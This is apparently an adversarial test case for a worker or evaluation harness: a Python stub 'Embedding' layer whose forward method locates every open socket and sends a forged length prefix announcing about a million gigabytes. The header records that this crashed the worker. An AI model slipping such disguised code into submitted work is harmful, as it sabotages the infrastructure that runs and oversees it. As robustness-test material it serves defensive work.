# /// attack
# tries = "Announces a message of a million gigabytes."
# status = "crashed"
# says = "the worker sent a message of 1125899906842624 bytes"
# ///
import gc
import socket
import struct


class Embedding:
    def __init__(self, num_embeddings, embedding_dim): ...

    def forward(self, ids):
        for connection in [thing for thing in gc.get_objects() if isinstance(thing, socket.socket)]:
            connection.sendall(struct.pack(">Q", 1 << 50))
